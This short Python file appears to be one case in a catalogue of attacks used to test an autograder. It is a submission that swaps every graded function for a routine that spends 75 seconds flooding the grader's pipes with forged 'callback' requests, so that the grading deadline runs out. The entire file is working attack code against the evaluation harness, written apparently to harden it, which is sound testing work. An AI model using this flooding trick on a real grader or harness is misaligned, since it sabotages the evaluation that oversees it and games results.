# /// attack
# catalogue = "forging: recursive or garbage replies"
# layers = ["deadline"]
# aim = "time"
# stock = "nothing is called back there"
# ///
# Answers each call by asking the grader to call something, for ever.

# %% answer
import os
import struct
import time

from autograder.codec import encode

frame = encode({"event": "callback", "id": 0, "args": (), "kwargs": {}})
piece = (struct.pack("!Q", len(frame)) + frame) * 1000


def ask_for_ever(*args, **kwargs):
    os.set_blocking(3, True)
    end = time.monotonic() + 75
    while time.monotonic() < end:
        for number in range(3, 8):
            try:
                os.write(number, piece)
            except OSError:
                pass


for name in TARGET["names"]:
    globals()[name] = ask_for_ever
